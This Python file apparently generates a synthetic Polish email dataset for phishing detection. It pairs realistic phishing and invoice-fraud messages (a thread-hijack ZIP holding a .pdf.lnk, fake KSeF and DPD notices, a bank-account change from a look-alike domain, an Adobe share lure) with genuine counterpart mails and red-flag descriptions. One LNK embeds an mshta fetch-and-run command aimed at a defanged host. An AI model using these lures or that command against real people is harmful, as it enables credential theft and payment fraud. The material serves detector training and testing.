# -*- coding: utf-8 -*-
"""Polish messages (attack 22-26, business 22-26)."""
import ids
import docs
import office
import mime
import company as C
import mailsys as X
from common import *
from reg import msg

PL_FOOT = ('Partner Logistik sp. z o.o., ul. Rabowicka 21, 62-020 Swarzędz. Sąd Rejonowy Poznań - Nowe Miasto i Wilda w Poznaniu, '
           'VIII Wydział Gospodarczy KRS, KRS 0000318842, NIP 777-308-41-26, kapitał zakładowy 500 000 zł.')
EG_PL_IBAN = ids.make_iban('PL', '10201042' + '0000870204187733')


def routing(d7):
    w = [3, 9, 7, 1, 3, 9, 7]
    return d7 + str((10 - sum(int(a) * b for a, b in zip(d7, w)) % 10) % 10)


def sig_tz():
    return ('Pozdrawiam\n\nTadeusz Zieliński\nKierownik magazynu\nPartner Logistik sp. z o.o.\nCentrum Dystrybucyjne Swarzędz\n'
            'ul. Rabowicka 21, 62-020 Swarzędz\ntel. +48 61 817 44 20, kom. +48 601 318 774\nwww.partner-logistik.pl\n\n' + PL_FOOT)


# =====================================================================================
@msg('attack', '22-pl-partner-logistik-przejete-konto-zip.eml')
def a22(m):
    r = m.rng
    t = when(2026, 11, 25, 13, 7, 2)
    ag = S('Agnieszka')
    pw = 'WZ4826'
    lnk = (INERT_LNK % ('%SystemRoot%\\System32\\shell32.dll,1',
                        'C:\\Windows\\System32\\cmd.exe /c start /min mshta hxxps://wz-dokumenty[.]online/48 (payload not included)')).encode()
    z = office.zip_encrypted([('WZ_48_2026_Swarzedz.pdf.lnk', lnk, (2026, 11, 25, 12, 40, 8))], pw, r)
    m.meta['zip_passwords'] = [pw]
    prev_t = when(2026, 11, 24, 15, 12, 40)
    prev = ('Dzień dobry Panie Tadeuszu,\n\nw załączeniu awizacja dostawy nr 48/2026 na czwartek 26.11 (2 auta, 66 palet karmy mokrej '
            'z zakładu w Poznaniu). Proszę o potwierdzenie okna rozładunku.\n\nPozdrawiam\nAgnieszka Wójcik\nExample Group Polska sp. z o.o.')
    body = ('Dzień dobry Pani Agnieszko,\n\npotwierdzam okno 26.11 godz. 7:00-9:00, rampa 4. W załączeniu dokumenty WZ i '
            'specyfikacja rozładunku do awizacji 48/2026 oraz korekta stanów z inwentaryzacji.\n\nZe względu na dane handlowe '
            'plik jest zabezpieczony hasłem: %s\n\nProszę o sprawdzenie i odesłanie podpisanych dokumentów jeszcze dziś.\n\n' % pw) + sig_tz()
    plain = body + '\n\n' + B.outlook_quote_plain('pl', ag, prev_t, [('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl')],
                                                  'Awizacja dostawy 48/2026 - Swarzędz', prev)
    html = B.outlook_html(body, 'pl', 'iso-8859-2', B.outlook_quote_html('pl', ag, prev_t, [('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl')],
                                                                         'Awizacja dostawy 48/2026 - Swarzędz', B.text_to_mso(prev)), reply=True)
    m.root = Multi('mixed', [B.alt(m, plain, html, 'iso-8859-2', 'quoted-printable', bnd=B.bnd_generic(m)),
                             att(m, z, 'application/x-zip-compressed', 'Dokumenty_WZ_48_2026.zip', 'outlook', t, 'iso-8859-2')], B.bnd_generic(m))
    c = dict(frm=('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl'), to=[ag], subject='RE: Awizacja dostawy 48/2026 - Swarzędz',
             date=t, hcs='iso-8859-2', hmode='Q', replies=1,
             irt='<e18b4c0d2f6a4a1ea7c93d5b0e2f7c66@EXCH01.corp.example.com>', refs='<e18b4c0d2f6a4a1ea7c93d5b0e2f7c66@EXCH01.corp.example.com>')
    X.homepl(m, c, '194.165.16.72')
    m.describe('Thread hijack from the REAL, compromised home.pl mailbox of the logistics partner\'s warehouse manager: reply '
               'to a delivery notice with a password-protected ZIP (password in the body) containing "WZ_48_2026_Swarzedz.pdf.lnk" '
               '(inert placeholder).',
               'DKIM/SPF pass (real mailbox), but: submission from 194.165.16.72 (foreign hosting, not the partner\'s network), '
               'encrypted archive for ordinary WZ documents, .pdf.lnk, "send back today". Genuine thread: business/23.',
               phones=['+48 61 817 44 20', '+48 601 318 774'])


# =====================================================================================
@msg('attack', '23-pl-ksef-token-wygasa.eml')
def a23(m):
    r = m.rng
    t = when(2026, 12, 1, 7, 58, 30)
    url = 'https://ksef-certyfikaty.pl/logowanie?nip=7792418539&ref=MF-KSeF-2026-118874'
    html = ('<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"></head>\n'
            '<body style="font-family:Lato,Arial,sans-serif;background:#f5f5f5;margin:0">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">\n'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;border-top:6px solid #dc0032">\n'
            '<tr><td style="padding:22px 28px;font-size:13px;color:#555">Ministerstwo Finansów<br><b style="font-size:20px;color:#1b1b1b">Krajowy System e-Faktur</b></td></tr>\n'
            '<tr><td style="padding:0 28px 20px;font-size:15px;line-height:23px;color:#1b1b1b">\n'
            '<p>Szanowni Państwo,</p>\n<p>informujemy, że tokeny uwierzytelniające wygenerowane w KSeF 1.0 dla podmiotu '
            '<b>NIP 7792418539 (EXAMPLE GROUP POLSKA SP. Z O.O.)</b> tracą ważność z dniem <b>31.12.2026</b>. Po tym terminie '
            'wystawianie i odbieranie faktur ustrukturyzowanych w Państwa systemie księgowym nie będzie możliwe.</p>\n'
            '<p>Aby zachować ciągłość fakturowania, należy do <b>07.12.2026</b> zalogować się i wygenerować certyfikat KSeF dla '
            'integracji. Logowanie odbywa się przez login.gov.pl (profil zaufany, bankowość elektroniczna).</p>\n'
            '<p style="text-align:center;margin:26px 0"><a href="%s" style="background:#dc0032;color:#fff;padding:12px 26px;'
            'text-decoration:none;font-weight:bold">Wygeneruj certyfikat KSeF</a></p>\n'
            '<p style="font-size:12px;color:#777">Wiadomość wygenerowana automatycznie. Nie odpowiadaj na nią.<br>'
            'Ministerstwo Finansów, ul. Świętokrzyska 12, 00-916 Warszawa</p>\n</td></tr></table></td></tr></table></body></html>\n' % url)
    m.root = B.alt(m, B.html_to_text(html).replace('Wygeneruj certyfikat KSeF', 'Wygeneruj certyfikat KSeF: ' + url), html, 'UTF-8', 'base64',
                   bnd=B.bnd_java(m), ct_quote=False)
    c = dict(frm=('KSeF - Ministerstwo Finansów', 'powiadomienia@ksef-certyfikaty.pl'), to=[S('Krzysztof')],
             subject='KSeF: tokeny tracą ważność 31.12.2026 - wymagane działanie do 07.12.2026', date=t, hcs='UTF-8', hmode='B')
    X.ses(m, c, region='eu-central-1', host=('a69-22', '69.169.224.22'), dkim_d='ksef-certyfikaty.pl', dkim_s='mf2026',
          mail_from='bounce@mail.ksef-certyfikaty.pl', dmarc_policy='absent')
    m.describe('Credential phishing timed to the KSeF 2.0 token-to-certificate migration: fake Ministry of Finance notice '
               'that the company\'s KSeF tokens expire, link to a look-alike "certificate" login via Amazon SES.',
               'ksef-certyfikaty.pl is not mf.gov.pl/podatki.gov.pl; the Ministry does not send login links; deadline pressure; '
               'NIP scraped from public registers. Genuine internal KSeF instruction: business/26.')


# =====================================================================================
@msg('attack', '24-pl-dpd-doplata-paczka.eml')
def a24(m):
    r = m.rng
    t = when(2026, 12, 8, 11, 44, 5)
    track = 'https://%s.r.bh.d.sendibt3.com/tr/cl/%s' % (alnum(r, 6, 'abcdefghijklmnopqrstuvwxyz0123456789'), alnum(r, 80, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-'))
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body style="font-family:PlutoSans,Arial,sans-serif;margin:0;background:#f2f2f2">\n'
            '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:18px">\n'
            '<table width="560" cellpadding="0" cellspacing="0" style="background:#fff">\n'
            '<tr><td style="background:#dc0032;padding:14px 22px;color:#fff;font-size:22px;font-weight:bold">DPD</td></tr>\n'
            '<tr><td style="padding:22px;font-size:15px;line-height:22px;color:#414042">\n'
            '<p>Dzień dobry,</p>\n<p>Twoja paczka nr <b>0000 3347 2156 5U</b> od nadawcy <b>ALLEGRO SP. Z O.O.</b> została zatrzymana '
            'w oddziale Poznań-Głuszyna z powodu niedopłaty za niestandardowy gabaryt.</p>\n'
            '<p>Kwota do zapłaty: <b>2,49 zł</b></p>\n'
            '<p>Uregulowanie należności jest możliwe BLIK-iem lub kartą do dnia 10.12.2026. Po tym terminie przesyłka zostanie '
            'zwrócona do nadawcy.</p>\n'
            '<p style="margin:24px 0"><a href="' + track + '" style="background:#dc0032;color:#fff;padding:11px 24px;text-decoration:none;'
            'font-weight:bold">Opłać i zaplanuj doręczenie</a></p>\n'
            '<p>Pozdrawiamy<br>Zespół DPD Polska</p>\n</td></tr>\n'
            '<tr><td style="padding:12px 22px;font-size:11px;color:#999">DPD Polska Sp. z o.o., ul. Mineralna 15, 02-274 Warszawa</td></tr>\n'
            '</table></td></tr></table></body></html>\n')
    m.root = B.alt(m, B.html_to_text(html).replace('Opłać i zaplanuj doręczenie', 'Opłać i zaplanuj doręczenie: ' + track), html,
                   'utf-8', 'quoted-printable', bnd=B.bnd_java(m), ct_quote=False)
    c = dict(frm=('DPD Polska', 'info@dpd-paczka-doplata.pl'), to=[S('Agnieszka')],
             subject='Twoja paczka 0000 3347 2156 5U oczekuje na dopłatę', date=t, hcs='utf-8', hmode='B')
    X.brevo(m, c)
    m.describe('Parcel-fee smishing style mail: fake DPD Polska asks for a 2.49 zł surcharge by BLIK/card, link wrapped in '
               'Brevo click tracking leading to a card-phishing page.',
               'Sender domain dpd-paczka-doplata.pl via Brevo, not dpd.com.pl; tiny fee + return threat; payment link. '
               'Genuine DPD notice: business/25.')


# =====================================================================================
@msg('attack', '25-pl-partner-logistyk-zmiana-rachunku.eml')
def a25(m):
    r = m.rng
    t = when(2026, 11, 18, 9, 26, 41)
    new_iban = ids.make_iban('PL', routing('1140200') + '0000' + '3412' + '8837' + '1205')
    body = ('Szanowni Państwo,\n\n'
            'w związku z brakiem płatności za faktury FV/2026/10/1187 (38 412,60 zł) oraz FV/2026/10/1203 (21 960,00 zł), '
            'których termin minął 14.11.2026, uprzejmie prosimy o niezwłoczne uregulowanie należności.\n\n'
            'Informujemy jednocześnie, że od 01.11.2026 prowadzimy rozliczenia przez nowy rachunek bankowy. Rachunek jest '
            'zgłoszony do urzędu skarbowego i widnieje na białej liście podatników VAT:\n\n'
            'Partner Logistik sp. z o.o.\nmBank S.A.\n%s\n\n'
            'Płatności na poprzedni rachunek w Santander Bank Polska nie będą już księgowane. Prosimy o przesłanie '
            'potwierdzenia przelewu na ten adres e-mail do końca tygodnia.\n\n'
            'Z poważaniem\n\nDział Księgowości\nPartner Logistik sp. z o.o.\nul. Rabowicka 21, 62-020 Swarzędz\n' % ids.fmt_iban(new_iban))
    m.root = Multi('alternative', [Leaf('text/plain', body, 'UTF-8', 'quoted-printable'),
                                   Leaf('text/html', '<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;">'
                                        + ''.join('<div>%s</div>' % (B.esc(l) or '<br>') for l in body.split('\n')) + '</div>\n',
                                        'UTF-8', 'quoted-printable')], '----=_Part_Zoho_%d' % r.randint(10 ** 6, 10 ** 7))
    c = dict(frm=('Księgowość Partner Logistik', 'ksiegowosc@partner-logistyk.pl'), to=[S('Krzysztof')],
             subject='Wezwanie do zapłaty - FV/2026/10/1187, FV/2026/10/1203 - nowy rachunek', date=t, hcs='UTF-8', hmode='B')
    X.zoho(m, c, '46.246.122.19')
    m.describe('Invoice/bank-change fraud from the look-alike domain partner-logistyk.pl (y for i) on Zoho Mail: payment '
               'reminder for two real-looking invoices with a "new" mBank account "on the VAT white list".',
               'Look-alike domain and different mail system (Zoho, not home.pl); new account; invokes the white list to '
               'pre-empt checks; payment confirmation by e-mail. Genuine partner invoice: business/22.', ibans=[new_iban])


# =====================================================================================
@msg('attack', '26-pl-adobe-acrobat-udostepnienie.eml')
def a26(m):
    r = m.rng
    t = when(2026, 12, 10, 14, 3, 58)
    url = 'https://acrobat.adobe.com/id/urn:aaid:sc:EU:%s?viewer%%21megaVerb=group-discover' % mime.uuid4(r)
    html = ('<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"></head>\n'
            '<body style="margin:0;background:#f5f5f5;font-family:adobe-clean,Arial,sans-serif">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 10px">\n'
            '<table width="520" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px">\n'
            '<tr><td style="padding:26px 30px 6px"><img src="https://acrobat.adobe.com/dc-shared-assets/images/email/acrobat-logo.png" width="32" alt="Adobe Acrobat"></td></tr>\n'
            '<tr><td style="padding:8px 30px;font-size:20px;color:#2c2c2c"><b>Jan Kowalski</b> udostępnił(a) Ci plik</td></tr>\n'
            '<tr><td style="padding:6px 30px;font-size:14px;color:#4b4b4b">Dzień dobry, przesyłam zapytanie ofertowe na dostawy karmy '
            'do naszych sklepów w 2027 r. Proszę o ofertę do 18.12.</td></tr>\n'
            '<tr><td style="padding:16px 30px"><table cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1;width:100%%"><tr>'
            '<td style="padding:12px;font-size:14px;color:#2c2c2c">Zapytanie_ofertowe_12-2026_ZooPlaneta.pdf</td></tr></table></td></tr>\n'
            '<tr><td style="padding:6px 30px 28px"><a href="%s" style="background:#1473e6;color:#fff;padding:10px 24px;border-radius:16px;'
            'text-decoration:none;font-size:14px;font-weight:bold">Otwórz</a></td></tr>\n'
            '<tr><td style="padding:16px 30px;font-size:11px;color:#6e6e6e;border-top:1px solid #eaeaea">Adobe Acrobat · '
            '<a href="https://www.adobe.com/pl/privacy.html" style="color:#6e6e6e">Zasady ochrony prywatności</a><br>'
            'Adobe Systems Software Ireland Ltd, 4-6 Riverwalk, Citywest Business Park, Dublin 24, Ireland</td></tr>\n'
            '</table></td></tr></table></body></html>\n' % url)
    m.root = B.alt(m, B.html_to_text(html).replace('Otwórz', 'Otwórz: ' + url), html, 'UTF-8', 'quoted-printable', bnd=B.bnd_java(m), ct_quote=False)
    c = dict(frm=('Jan Kowalski (przez Adobe Acrobat)', 'message@adobe.com'), reply_to=[('Jan Kowalski', 'j.kowalski@zooplaneta-sklepy.pl')],
             to=[S('Agnieszka')], subject='Jan Kowalski udostępnił(a) Ci plik „Zapytanie_ofertowe_12-2026_ZooPlaneta.pdf”', date=t,
             hcs='UTF-8', hmode='B', msgid='<%s@adobe.com>' % mime.uuid4(r))
    X.generic_relay(m, c, 'mail182-53.mail.adobe.com', '130.248.182.53',
                    dkims=[('adobe.com', 'mkto', 'From:To:Subject:Date:Message-ID:Reply-To:Content-Type:MIME-Version')],
                    mail_from='bounce-%s@mail.adobe.com' % hexs(r, 16), dmarc_policy='reject', z='UTC')
    m.describe('Document-share lure through the REAL Adobe Acrobat sharing service, sent from a compromised account of a Polish '
               'pet-store operator: "request for quotation" PDF whose link in the viewer leads to a credential page.',
               'Authentic Adobe mail (DKIM adobe.com, DMARC pass); unknown company, tender via cloud share instead of attachment, '
               'deadline; only the content and the link chain are malicious.')


# =====================================================================================
# BUSINESS
# =====================================================================================
@msg('business', '22-pl-partner-faktura-ksef.eml')
def b22(m):
    r = m.rng
    t = when(2026, 11, 30, 12, 40, 17)
    ksef = '7773084126-20261130-%s-%s' % (hexs(r, 12, True), hexs(r, 2, True))
    kod1 = 'https://qr.ksef.mf.gov.pl/invoice/7773084126/30-11-2026/%s' % b64s(r, 32).replace('+', '-').replace('/', '_').rstrip('=')
    lines = [('Magazynowanie paletowe - 1 412 palet x 30 dni (listopad 2026)', 1412, 24.60),
             ('Przyjęcie/wydanie palety (in/out)', 1874, 6.10), ('Kompletacja zamówień - linie', 3290, 1.45),
             ('Folia stretch, etykietowanie SSCC', 1, 612.00)]
    net = round(sum(q * p for _, q, p in lines), 2)
    vat = round(net * 0.23, 2)
    pl = lambda v: docs.money(v, 'pl')
    pdfb, _ = docs.build(m, [
        ('addr', ['Nabywca:', 'Example Group Polska sp. z o.o.', 'ul. Obornicka 229, 60-650 Poznań', 'NIP 779-241-85-39'],
         [('Faktura VAT nr', 'FV/2026/11/1342'), ('Data wystawienia', '30.11.2026'), ('Data sprzedaży', '30.11.2026'),
          ('Termin płatności', '30.12.2026'), ('Numer KSeF', ksef)]),
        ('sp', 10), ('h', 'Faktura VAT FV/2026/11/1342'), ('sp', 4),
        ('table', ['Nazwa usługi', 'Ilość', 'Cena netto', 'Wartość netto'], [[d, str(q), pl(p), pl(q * p)] for d, q, p in lines],
         [5, 1, 1.3, 1.5], ['l', 'r', 'r', 'r']),
        ('totals', [('Razem netto', pl(net) + ' zł', False), ('VAT 23%', pl(vat) + ' zł', False), ('Do zapłaty', pl(net + vat) + ' zł', True)]),
        ('sp', 6), ('kv', [('Forma płatności', 'przelew, mechanizm podzielonej płatności'), ('Bank', 'Santander Bank Polska S.A.'),
                           ('Rachunek', ids.fmt_iban(C.PL_PARTNER_IBAN))]),
        ('sp', 6), ('qr', kod1, 72, 'KSeF: %s' % ksef),
        ('small', 'Faktura ustrukturyzowana została wystawiona w Krajowym Systemie e-Faktur; niniejszy wydruk stanowi jej '
                  'wizualizację. Kod QR (KOD I) umożliwia weryfikację faktury w KSeF. ' + PL_FOOT),
    ], 'Comarch ERP Optima', 'Comarch ERP Optima', 'FV/2026/11/1342', 'Partner Logistik', t - TD(minutes=8),
        header=docs.letterhead('Partner Logistik', ['Centrum Dystrybucyjne Swarzędz · ul. Rabowicka 21 · 62-020 Swarzędz'], (0.05, 0.3, 0.55)))
    body = ('Dzień dobry,\n\nw załączeniu wizualizacja faktury FV/2026/11/1342 za usługi magazynowe w listopadzie. Faktura '
            'została przesłana do KSeF (nr %s) i jest dostępna w Państwa systemie.\n\nRachunek bankowy bez zmian - zgodny z '
            'białą listą VAT.\n\nPozdrawiamy\nDział Księgowości\nPartner Logistik sp. z o.o.\ntel. +48 61 817 44 00\n' % ksef)
    m.root = Multi('mixed', [Leaf('text/plain', body, 'iso-8859-2', 'quoted-printable'),
                             att(m, pdfb, 'application/pdf', 'FV_2026_11_1342.pdf', 'outlook', t, 'iso-8859-2')], B.bnd_generic(m))
    c = dict(frm=('Księgowość Partner Logistik', 'ksiegowosc@partner-logistik.pl'), to=[S('Krzysztof')],
             subject='Faktura FV/2026/11/1342 - usługi magazynowe 11/2026', date=t, hcs='iso-8859-2', hmode='Q')
    X.homepl(m, c, '89.64.17.22')
    m.describe('Genuine logistics-partner invoice with KSeF number (seller NIP-date-hash format) and KSeF verification QR '
               'code (KOD I), split-payment note and the '
               'unchanged Santander account, from the partner\'s real home.pl mailbox.',
               'Real domain/infrastructure, usual client IP, KSeF reference verifiable in the e-invoice system, account unchanged.',
               hardneg='25-pl-partner-logistyk-zmiana-rachunku.eml', ibans=[C.PL_PARTNER_IBAN], phones=['+48 61 817 44 00'],
               other=[ksef])


# =====================================================================================
@msg('business', '23-pl-partner-awizacja-potwierdzenie-xlsx.eml')
def b23(m):
    r = m.rng
    t = when(2026, 12, 15, 8, 52, 6)
    ag = S('Agnieszka')
    rows = [[('Awizacja', 'b'), ('Data', 'b'), ('Okno', 'b'), ('Rampa', 'b'), ('Palety', 'b'), ('Nr rej.', 'b')],
            ['51/2026-1', '16.12.2026', '07:00-08:00', 4, 33, 'PO 7K218'], ['51/2026-2', '16.12.2026', '08:30-09:30', 4, 33, 'PO 5R844'],
            ['51/2026-3', '18.12.2026', '06:30-07:30', 2, 26, 'PZ 90214'], [None, ('Razem', 'b'), None, None, 92, None]]
    x = office.xlsx([('Awizacje tydz. 51', rows, [12, 12, 13, 7, 8, 11])], 'Tadeusz Zieliński', 'Tadeusz Zieliński',
                    '2026-12-15T07:31:00Z', '2026-12-15T07:49:55Z', (2026, 12, 15, 7, 49, 56))
    prev_t = when(2026, 12, 14, 16, 5, 22)
    prev = ('Dzień dobry Panie Tadeuszu,\n\nprzesyłam awizacje na tydzień 51: 16.12 dwa auta z zakładu (po 33 palety), 18.12 jedno '
            'auto z Verden (26 palet karmy suchej). Proszę o potwierdzenie okien.\n\nPozdrawiam\nAgnieszka Wójcik')
    body = ('Dzień dobry Pani Agnieszko,\n\npotwierdzam okna - szczegóły w załączonej tabeli. Dla dostawy z Verden 18.12 prosimy '
            'o przesłanie numeru rejestracyjnego naczepy najpóźniej dzień wcześniej do 14:00.\n\nW przyszłym tygodniu magazyn '
            'pracuje do 23.12 do 14:00, potem przerwa świąteczna do 27.12.\n\n') + sig_tz()
    plain = body + '\n\n' + B.outlook_quote_plain('pl', ag, prev_t, [('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl')],
                                                  'Awizacje tydzień 51', prev, cc=[S('Marco')])
    html = B.outlook_html(body, 'pl', 'iso-8859-2', B.outlook_quote_html('pl', ag, prev_t, [('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl')],
                                                                         'Awizacje tydzień 51', B.text_to_mso(prev), cc=[S('Marco')]), reply=True)
    m.root = Multi('mixed', [B.alt(m, plain, html, 'iso-8859-2', 'quoted-printable', bnd=B.bnd_generic(m)),
                             att(m, x, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'Awizacje_tydz_51.xlsx', 'outlook', t, 'iso-8859-2')],
                   B.bnd_generic(m))
    c = dict(frm=('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl'), to=[ag], cc=[S('Marco')],
             subject='RE: Awizacje tydzień 51', date=t, hcs='iso-8859-2', hmode='Q', replies=1,
             irt='<0c7d9e21a4b84f3f8e6a2b1c5d7e9f04@EXCH02.corp.example.com>', refs='<0c7d9e21a4b84f3f8e6a2b1c5d7e9f04@EXCH02.corp.example.com>')
    X.homepl(m, c, '89.64.17.22')
    m.describe('Genuine reply from the logistics partner\'s warehouse manager confirming delivery windows, with an XLSX table.',
               'Real mailbox from the partner\'s usual IP, thread continuity, plain XLSX without password or macros.',
               hardneg='22-pl-partner-logistik-przejete-konto-zip.eml', phones=['+48 61 817 44 20', '+48 601 318 774'])


# =====================================================================================
def _inner_inpost(m):
    """The suspicious mail the employee forwards (as it arrived at mx01 earlier)."""
    r = m.rng
    t = when(2026, 12, 3, 19, 22, 41)
    url = 'https://inpost-paczkomat-adres.com/potwierdz?id=PL%d' % r.randint(10 ** 8, 10 ** 9)
    txt = ('InPost\n\nTwoja paczka nie mogła zostać umieszczona w Paczkomacie POZ45M z powodu błędnego adresu.\n'
           'Potwierdź dane doręczenia i opłać ponowne nadanie (1,99 zł):\n%s\n\nZespół InPost\n' % url)
    inner = mime.Leaf('text/plain', txt, 'utf-8', 'quoted-printable', ct_quote=False)
    hdr = [('Return-Path', '<noreply@inpost-paczkomat-adres.com>'),
           ('Received', 'from vps-4d21e7.vps.ovh.net (vps-4d21e7.vps.ovh.net [51.75.144.31])\n\tby mx01.example.com (Postfix) with ESMTP id 4Z8kQp1rTzzB7w\n\tfor <agnieszka.wojcik@example.com>; Thu,  3 Dec 2026 19:22:44 +0100 (CET)'),
           ('From', 'InPost <noreply@inpost-paczkomat-adres.com>'), ('To', 'agnieszka.wojcik@example.com'),
           ('Subject', mime.hval('Paczka POZ45M - wymagane potwierdzenie adresu', 'utf-8', 'B')),
           ('Date', 'Thu, 3 Dec 2026 18:22:41 +0000'), ('Message-ID', '<%s@vps-4d21e7.vps.ovh.net>' % hexs(r, 20)),
           ('MIME-Version', '1.0')] + inner.headers()
    return mime.serialize_headers(hdr) + b'\n' + inner.body(), url


@msg('business', '24-pl-zgloszenie-podejrzanej-wiadomosci.eml')
def b24(m):
    t = when(2026, 12, 4, 8, 9, 33)
    raw, url = _inner_inpost(m)
    text = ('Dzień dobry,\n\nzgłaszam podejrzaną wiadomość, która przyszła wczoraj wieczorem na moją skrzynkę - rzekomo od InPost, '
            'ale nie oczekuję żadnej paczki, a adres nadawcy jest dziwny. Nie klikałam w link. Oryginał w załączniku.\n\n'
            'Pozdrawiam\nAgnieszka Wójcik\nOffice Manager\nExample Group Polska sp. z o.o.\nul. Obornicka 229, 60-650 Poznań\n'
            'tel. +48 61 842 17 10')
    m.root = Multi('mixed', [B.alt(m, text, B.outlook_html(text, 'pl', 'utf-8'), 'utf-8', 'quoted-printable', bnd=B.bnd_exchange(m)),
                             Rfc822(raw, 'Paczka POZ45M - wymagane potwierdzenie adresu.eml')], B.bnd_exchange(m, '004'))
    c = dict(frm=S('Agnieszka'), to=[('Zgłoszenia phishing', 'phishing@example.com')], cc=[S('Lukas')],
             subject='Zgłoszenie: podejrzana wiadomość "InPost" - proszę o sprawdzenie', date=t)
    X.exchange_internal(m, c, rcpt='phishing@example.com', client_ip='10.23.1.44', lang='pl-PL')
    m.describe('Genuine internal report: the Poznań office manager forwards a suspicious "InPost" message as an .eml '
               'attachment to the phishing report mailbox.',
               'Internal route; the malicious link is only inside the attached original, which the employee reports; '
               'a filter must not treat the report itself as an attack.', hardneg='24-pl-dpd-doplata-paczka.eml',
               phones=['+48 61 842 17 10'])


# =====================================================================================
@msg('business', '25-pl-dpd-powiadomienie-dostawa.eml')
def b25(m):
    r = m.rng
    t = when(2026, 12, 9, 7, 2, 15)
    parcel = '1000%09d' % r.randint(10 ** 8, 10 ** 9) + 'U'
    url = 'https://tracktrace.dpd.com.pl/parcelDetails?typ=1&p1=%s' % parcel
    url2 = 'https://www.dpd.com.pl/predict?parcel=%s&key=%s' % (parcel, hexs(r, 16))
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body style="font-family:Arial,sans-serif;margin:0;background:#f2f2f2">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:18px">\n'
            '<table width="560" cellpadding="0" cellspacing="0" style="background:#fff">\n'
            '<tr><td style="background:#dc0032;padding:14px 22px;color:#fff;font-size:22px;font-weight:bold">DPD</td></tr>\n'
            '<tr><td style="padding:22px;font-size:15px;line-height:22px;color:#414042">\n'
            '<p>Dzień dobry,</p>\n<p>dzisiaj doręczymy Twoją paczkę <b>%s</b> od nadawcy <b>BIURO-SERWIS SP. Z O.O.</b></p>\n'
            '<p>Przewidywany czas doręczenia: <b>10:15 - 11:15</b><br>Adres: Example Group Polska sp. z o.o., ul. Obornicka 229, Poznań</p>\n'
            '<p>Kurier: Paweł, tel. +48 532 418 907</p>\n'
            '<p>Możesz śledzić paczkę lub zmienić termin doręczenia: <a href="%s">%s</a></p>\n'
            '<p><a href="%s">Zmień termin lub miejsce doręczenia</a></p>\n'
            '<p style="font-size:12px;color:#777">DPD nigdy nie prosi o dopłaty SMS-em ani e-mailem za pomocą linków do płatności. '
            'Za przesyłki pobraniowe płacisz wyłącznie kurierowi.</p>\n'
            '<p>Zespół DPD Polska</p></td></tr>\n'
            '<tr><td style="padding:12px 22px;font-size:11px;color:#999">DPD Polska Sp. z o.o., ul. Mineralna 15, 02-274 Warszawa, '
            'KRS 0000028471</td></tr>\n</table></td></tr></table></body></html>\n' % (parcel, url, url, url2))
    m.root = B.alt(m, B.html_to_text(html) + '\n' + url + '\n' + url2 + '\n', html, 'utf-8', 'quoted-printable', bnd=B.bnd_java(m), ct_quote=False)
    c = dict(frm=('DPD Polska', 'powiadomienia@dpd.com.pl'), to=[S('Agnieszka')],
             subject='Twoja paczka %s będzie dziś doręczona' % parcel, date=t, hcs='utf-8', hmode='B')
    X.generic_relay(m, c, 'mailout2.dpd.com.pl', '198.51.100.212',
                    dkims=[('dpd.com.pl', 'dpd2025', 'from:to:subject:date:message-id:content-type:mime-version')],
                    mail_from='bounce@powiadomienia.dpd.com.pl', dmarc_policy='reject')
    m.describe('Genuine DPD Predict delivery notification for an office-supplies parcel: time window, courier phone, tracking '
               'on tracktrace.dpd.com.pl, no payment.', 'dpd.com.pl with DKIM/DMARC pass; no fee; explicit warning about fake '
               'surcharges.', hardneg='24-pl-dpd-doplata-paczka.eml', phones=['+48 532 418 907'])


# =====================================================================================
@msg('business', '26-pl-wewnetrzne-ksef-certyfikaty.eml')
def b26(m):
    t = when(2026, 12, 2, 13, 15, 50)
    text = ('Agnieszko,\n\nw związku z wiadomościami o „wygasających tokenach KSeF”, które krążą od wczoraj: tokeny z KSeF 1.0 '
            'rzeczywiście działają tylko do końca roku, ale certyfikat KSeF dla naszego systemu ERP wygeneruję sam w aplikacji '
            'Ministerstwa - loguję się wyłącznie ręcznie przez https://ksef.podatki.gov.pl, a nie z linków w mailach.\n\n'
            'Jeżeli dostaniesz maila z prośbą o logowanie do KSeF, profil zaufany albo dane bankowe - nie klikaj i prześlij go na '
            'phishing@example.com. Wczorajszą wiadomość „KSeF - Ministerstwo Finansów” już zgłosiłem.\n\n'
            'W przyszłym tygodniu potrzebuję od Ciebie tylko aktualnej listy osób z uprawnieniami do wystawiania faktur '
            '(Poznań i magazyn), żeby nadać je od nowa.\n\nDzięki\nKrzysztof\n\nKrzysztof Nowak\nGłówny Księgowy\n'
            'Example Group Polska sp. z o.o.\ntel. +48 61 842 17 14')
    m.root = B.alt(m, text, B.outlook_html(text, 'pl', 'windows-1250'), 'windows-1250', 'quoted-printable', bnd=B.bnd_exchange(m))
    c = dict(frm=S('Krzysztof'), to=[S('Agnieszka')], subject='KSeF - certyfikaty zamiast tokenów (nie klikać w linki z maili)',
             date=t, hcs='windows-1250', hmode='Q')
    X.exchange_internal(m, c, client_ip='10.23.1.52', lang='pl-PL')
    m.describe('Genuine internal note from the Polish chief accountant about the KSeF token-to-certificate change, warning '
               'not to log in via e-mail links.', 'Internal route; explains the official procedure; only link is the official '
               'ksef.podatki.gov.pl typed by hand.', hardneg='23-pl-ksef-token-wygasa.eml', phones=['+48 61 842 17 14'])
